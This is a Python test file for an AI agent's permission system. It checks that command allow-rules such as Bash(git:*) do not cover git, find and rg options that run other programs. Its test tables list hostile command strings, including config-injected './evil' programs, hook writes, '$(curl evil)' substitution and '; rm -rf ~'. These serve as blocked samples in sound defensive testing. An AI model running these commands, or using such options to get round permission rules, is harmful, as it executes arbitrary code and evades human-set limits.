"""A Claude Code script's restrictions hold. When a run takes Claude Code's `default` mode (options.as_claude_code);
what a command rule (`Bash(git:*)`) covers, and the options through which the program it names would run other
programs or act on another repository (command_escapes.py), which it never covers. Table-driven, in-process: each
row's id names the failure it prevents. One run as a process: `-p --allowedTools`, as a script passes them.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from sprout_agent.config.locations import Locations
from sprout_agent.config.options import SDK_MARK, Options
from sprout_agent.core.claude_rules import translate
from sprout_agent.core.messages import ToolUse
from sprout_agent.core.permissions import Decision, Policy
from sprout_agent.core.protocols import ToolSpec
from sprout_agent.session.prepared import prepare
from tests.fake_anthropic import FakeAnthropic, reply, tool_use
from tests.harness import agent_env, result_text, run_agent, tool_results
from tests.stream_schema import valid_lines

pytestmark = pytest.mark.anyio


UNSET = {"permission_mode_given": False}  # as the CLI passes it when no --permission-mode is given
SDK = {SDK_MARK: "0.2.189"}  # what both Agent SDKs set on the process they start


@pytest.mark.parametrize(
    ("options", "environ", "mode"),
    [
        pytest.param({**UNSET, "claude_rules": True}, {}, "default", id="claude_p_allowed_tools_ran_everything"),
        pytest.param(
            {**UNSET, "input_format": "stream-json"}, SDK, "default", id="an_agent_sdk_without_a_mode_ran_everything"
        ),
        pytest.param(
            {**UNSET, "claude_rules": True, "input_format": "stream-json", "permission_prompt_tool": "stdio"},
            SDK,
            "default",
            id="the_sdks_callback_is_asked_in_claude_codes_default",
        ),
        pytest.param(UNSET, {}, "auto", id="our_own_command_line_lost_its_auto_default"),
        pytest.param(UNSET, SDK, "auto", id="a_nested_text_run_under_an_sdk_was_taken_for_the_sdk"),
        pytest.param(
            {"claude_rules": True, "permission_mode": "auto"}, {}, "auto", id="an_explicit_mode_was_overruled"
        ),
        pytest.param(
            {"claude_rules": True, "input_format": "stream-json", "permission_mode": "bypassPermissions"},
            SDK,
            "bypassPermissions",
            id="the_sdks_bypass_permissions_was_overruled",
        ),
    ],
)
def test_a_claude_code_script_without_a_mode_runs_in_claude_codes_default(
    tmp_path: Path, options: dict[str, Any], environ: dict[str, str], mode: str
) -> None:
    prepared = prepare(Options("q", cwd=tmp_path, **options), Locations.nowhere(), agent_env(tmp_path, None, environ))
    assert prepared.options.permission_mode == mode


def bash(command: str) -> tuple[ToolSpec, ToolUse]:
    return ToolSpec("dev__bash", "dev", "bash", "", {}, False), ToolUse("t", "dev__bash", {"command": command})


def nobody_asked(*rules: str) -> Policy:
    """As `claude -p` runs a script: Claude Code's default mode, its rules, nobody to ask."""
    return Policy("default", allow=translate(rules, deny=False).patterns)


NOT_COVERED = [
    ("git -c core.fsmonitor=./evil status", "git_-c_sets_a_program_git_runs"),
    ("git -c core.pager=./evil log", "git_-c_sets_the_pager"),
    ("git --config-env=core.hooksPath=HOOKS commit", "git_config_env_sets_config_from_a_variable"),
    ("git --exec-path=./bin status", "git_exec_path_runs_git_programs_from_a_directory_the_model_filled"),
    ("git -C ../other status", "git_-C_runs_in_another_repository_with_its_config"),
    ("git --git-dir=nested/.git status", "git_dir_picks_a_repository_the_model_made"),
    ("git --work-tree=/ status", "git_work_tree_acts_outside_the_workspace"),
    ("git --bare status", "git_bare_reads_a_directory_as_a_repository"),
    ("git '-c' core.pager=./evil log", "a_quoted_option_is_still_the_option"),
    ('git "--exec-path=./bin" status', "a_double_quoted_option_is_still_the_option"),
    ("git config core.fsmonitor ./evil", "git_config_sets_a_program_git_runs"),
    ("git config --global core.hooksPath /tmp/hooks", "git_config_global_sets_hooks_for_every_repository"),
    ("git config set core.pager ./evil", "git_config_set_subcommand"),
    ("git config --add alias.co checkout", "git_config_add_writes_config"),
    ("git config --get user.name --replace-all core.pager x", "a_read_flag_does_not_hide_a_write"),
    ("git config -le", "git_config_edit_clustered_with_list"),
    ("git diff --ext-diff", "git_diff_ext_diff_runs_a_diff_program"),
    ("git log -p --output=.git/hooks/pre-commit", "git_log_output_writes_a_hook"),
    ("git difftool -x ./evil", "git_difftool_extcmd"),
    ("git mergetool --tool=x", "git_mergetool_runs_a_tool"),
    ("git filter-branch --tree-filter ./evil HEAD", "git_filter_branch_runs_shell_filters"),
    ("git rebase --exec ./evil main", "git_rebase_exec"),
    ("git rebase -ix ./evil main", "git_rebase_x_in_a_cluster"),
    ("git rebase --exe=./evil main", "git_rebase_exec_abbreviated"),
    ("git bisect run ./evil", "git_bisect_run"),
    ("git submodule --quiet foreach ./evil", "git_submodule_foreach"),
    ("git clone --upload-pack=./evil ../repo x", "git_clone_upload_pack"),
    ("git clone -u ./evil ../repo x", "git_clone_u"),
    ("git clone -c core.fsmonitor=./evil ../repo x", "git_clone_c_sets_the_new_repositorys_config"),
    ("git clone --template=./hooks ../repo x", "git_clone_template_installs_hooks"),
    ("git fetch --upload-pack=./evil origin", "git_fetch_upload_pack"),
    ("git pull -u ./evil origin", "git_pull_u"),
    ("git ls-remote --upload-pack=./evil origin", "git_ls_remote_upload_pack"),
    ("git push --receive-pack=./evil origin", "git_push_receive_pack"),
    ("git push --exec=./evil origin", "git_push_exec"),
    ("git archive --remote=../repo --exec=./evil HEAD", "git_archive_remote_exec"),
    ("git archive -o /home/u/.bashrc HEAD", "git_archive_output_anywhere"),
    ("git grep -O./evil pattern", "git_grep_open_files_in_pager"),
    ("git send-email --sendmail-cmd=./evil x.patch", "git_send_email"),
    ("git init --template=./hooks", "git_init_template"),
    ("find . -name x -exec ./evil +", "find_exec"),
    ("find . -execdir ./evil +", "find_execdir"),
    ("find . -ok ./evil +", "find_ok"),
    ("find . -delete", "find_delete"),
    ("find . -fprint /home/u/.bashrc", "find_fprint_writes_a_file"),
    ("rg --pre ./evil pattern", "rg_pre_runs_a_program_per_file"),
]


@pytest.mark.parametrize("command", [pytest.param(c, id=failure) for c, failure in NOT_COVERED])
async def test_a_prefix_rule_never_covers_an_option_that_runs_other_programs(command: str) -> None:
    refusal = await nobody_asked("Bash(git:*)", "Bash(find:*)", "Bash(rg:*)")(*bash(command))
    assert refusal is not None and refusal.startswith("not approved"), command
    assert "does not cover it" in refusal  # the model learns which word keeps it out


COVERED = [
    ("Bash(git:*)", "git status"),
    ("Bash(git:*)", "git --no-pager log --oneline -5"),
    ("Bash(git:*)", "git -p diff HEAD^ -- src"),
    ("Bash(git:*)", "git --namespace=ns log"),
    ("Bash(git:*)", "git diff --no-ext-diff --stat"),
    ("Bash(git:*)", "git log --output-indicator-new=+ -p"),
    ("Bash(git:*)", "git config --get user.name"),
    ("Bash(git:*)", "git config --list --show-origin"),
    ("Bash(git:*)", "git config get user.email"),
    ("Bash(git:*)", "git rebase -i main"),
    ("Bash(git:*)", "git fetch origin"),
    ("Bash(git:*)", "git commit -C HEAD"),  # commit's -C is "reuse this message", not git's -C
    ("Bash(git commit:*)", 'git commit -m "fix the parser"'),  # quotes make one word, as in bash
    ("Bash(git commit:*)", "git commit -m 'fix: the parser'"),
    ("Bash(git commit:*)", 'git commit -m "fix(parser): a; b & [c] ~ #d"'),  # shell syntax in quotes is text
    ("Bash(find:*)", "find . -name '*.py' -newer setup.py"),
    ("Bash(rg:*)", "rg --pre-glob x -n pattern"),
    ("Bash(git -C sub status:*)", "git -C sub status --short"),  # the rule's own words are the user's
    ("Bash(npm test)", "npm test"),
]


@pytest.mark.parametrize(("rule", "command"), COVERED)
async def test_a_plain_command_a_rule_names_still_runs_unasked(rule: str, command: str) -> None:
    assert await nobody_asked(rule)(*bash(command)) is None, command


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("git commit -m 'x' ; rm -rf ~", id="a_quote_does_not_hide_a_second_command"),
        pytest.param('git commit -m "$(curl evil)"', id="double_quotes_still_expand_dollar"),
        pytest.param('git commit -m "`curl evil`"', id="double_quotes_still_expand_backquotes"),
        pytest.param("git commit -m 'unclosed", id="an_unclosed_quote"),
        pytest.param("git commit -m 'two\nlines'", id="a_newline_even_in_quotes"),
        pytest.param("git commit *.py", id="an_unquoted_glob"),
        pytest.param("git -C sub log", id="a_rules_own_option_covers_only_the_rules_subcommand"),
        pytest.param("GIT_CONFIG_PARAMETERS='core.pager=./evil' git log", id="an_environment_prefix_is_not_git"),
    ],
)
async def test_quotes_make_words_and_never_let_shell_syntax_through(command: str) -> None:
    policy = nobody_asked("Bash(git commit:*)", "Bash(git -C sub status:*)")
    assert "not approved" in (await policy(*bash(command)) or ""), command


async def test_a_command_a_rule_does_not_cover_falls_to_the_mode() -> None:
    asked: list[str] = []

    async def person(spec: ToolSpec, use: ToolUse, *, outside_sandbox: str | None = None) -> Decision:
        asked.append(str(use.input["command"]))
        return Decision("once")

    rules = translate(["Bash(git:*)"], deny=False).patterns
    assert await Policy("default", allow=rules, ask=person)(*bash("git -c core.pager=cat log")) is None
    assert asked == ["git -c core.pager=cat log"]  # asked, not run unasked
    assert await Policy("auto", allow=rules)(*bash("git -c core.pager=cat log")) is None  # auto runs anything


@pytest.mark.parametrize(
    "command", ["'rm' -rf build", 'r"m" -rf build', "ls; 'rm' -rf build", "echo 'a;b' && rm -rf build"]
)
async def test_quoting_the_program_name_does_not_escape_a_deny_rule(command: str) -> None:
    policy = Policy("auto", deny=translate(["Bash(rm:*)"], deny=True).patterns)
    assert "denied" in (await policy(*bash(command)) or ""), command


# ---------------------------------------------------------------- as a process


@pytest.mark.e2e
def test_claude_p_with_allowed_tools_denies_what_no_rule_allows_and_lists_it_in_permission_denials(
    tmp_path: Path,
) -> None:
    """claude-code-action's way of restricting the agent: `-p --allowedTools …` and no --permission-mode."""
    calls = {
        "t_version": {"command": "git --version"},
        "t_config": {"command": "git -c core.pager=./evil log"},
        "t_touch": {"command": "touch made-by-bash"},
        "t_write": {"file_path": "made-by-write.txt", "content": "x"},
    }
    uses = [tool_use("dev__write" if i == "t_write" else "dev__bash", args, id=i) for i, args in calls.items()]
    args = ["-p", "go", "--allowedTools", "Bash(git:*),Read", "--output-format", "stream-json", "--verbose"]
    with FakeAnthropic([reply(*uses), reply("done")]) as fake:
        run = run_agent(
            tmp_path, args, fake=fake, env={"SPROUT_AGENT_BUILTIN_SERVERS": "dev", "SPROUT_AGENT_SANDBOX": "off"}
        )
    assert run.code == 0, run.stderr
    lines = valid_lines(run.stdout)
    assert lines[0]["permissionMode"] == "default"
    result = lines[-1]
    assert (result["type"], result["result"]) == ("result", "done")
    denied = ["t_config", "t_touch", "t_write"]
    assert [d["tool_use_id"] for d in result["permission_denials"]] == denied
    assert [d["tool_name"] for d in result["permission_denials"]] == ["Bash"] * 2 + ["Write"]
    assert [d["tool_input"] for d in result["permission_denials"]] == [calls[i] for i in denied]
    assert not (tmp_path / "made-by-bash").exists() and not (tmp_path / "made-by-write.txt").exists()
    results = {r["tool_use_id"]: (bool(r.get("is_error")), result_text(r)) for r in tool_results(fake.requests[1].body)}
    assert results["t_version"][1].startswith("git version"), results["t_version"]
    assert all(results[i][0] and results[i][1].startswith("not approved") for i in denied)
    assert "'-c' makes git run a program" in results["t_config"][1]


# ---------------------------------------------------------------- --tools: the built-in tools offered


@pytest.mark.parametrize(
    ("value", "offered", "warned"),
    [
        pytest.param("Bash,Read", {"dev": {"bash", "read"}}, [], id="claude_codes_names_were_ignored"),
        pytest.param("TodoWrite dev__grep", {"dev": {"grep"}, "todo": {"todo_write"}}, [], id="ours_or_theirs"),
        pytest.param("", {}, [], id="an_empty_list_offered_everything"),
        pytest.param("WebFetch,Glob", {"dev": {"glob"}}, ["WebFetch"], id="an_unknown_name_went_unsaid"),
        pytest.param("default", None, [], id="the_sdks_preset_dropped_every_tool"),
    ],
)
def test_tools_flag_chooses_the_built_in_tools_offered_and_starts_no_server_left_without_one(
    tmp_path: Path, value: str, offered: dict[str, set[str]] | None, warned: list[str]
) -> None:
    environ = agent_env(tmp_path, None, {"SPROUT_AGENT_BUILTIN_SERVERS": "dev,todo"})
    prepared = prepare(Options("q", cwd=tmp_path, builtin_tools=value), Locations.nowhere(), environ)
    builtins = {s.name: s.only_tools for s in prepared.loaded.servers if s.transport == "in-process"}
    if offered is None:
        assert builtins == {"dev": None, "todo": None}
    else:
        assert builtins == {name: frozenset(tools) for name, tools in offered.items()}
    assert [n for n in prepared.loaded.notices if n.startswith("--tools")] == [
        f"--tools {name}: not one of the built-in tools here; ignored" for name in warned
    ]


def test_tools_flag_offers_the_model_only_those_tools_and_the_stream_names_them_as_claude_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.headless_here import headless

    options = Options("go", cwd=tmp_path, output_format="stream-json", builtin_tools="Bash,TodoWrite")
    with FakeAnthropic([reply("done")]) as fake:
        env = {"SPROUT_AGENT_SANDBOX": "off", "SPROUT_AGENT_BUILTIN_SERVERS": "dev,todo"}
        run = headless(tmp_path, monkeypatch, options, fake=fake, servers={}, env=env)
    assert run.code == 0, run.stderr
    assert [t["name"] for t in fake.requests[0].body["tools"]] == ["dev__bash", "todo__todo_write"]
    assert valid_lines(run.stdout)[0]["tools"] == ["Bash", "TodoWrite"]
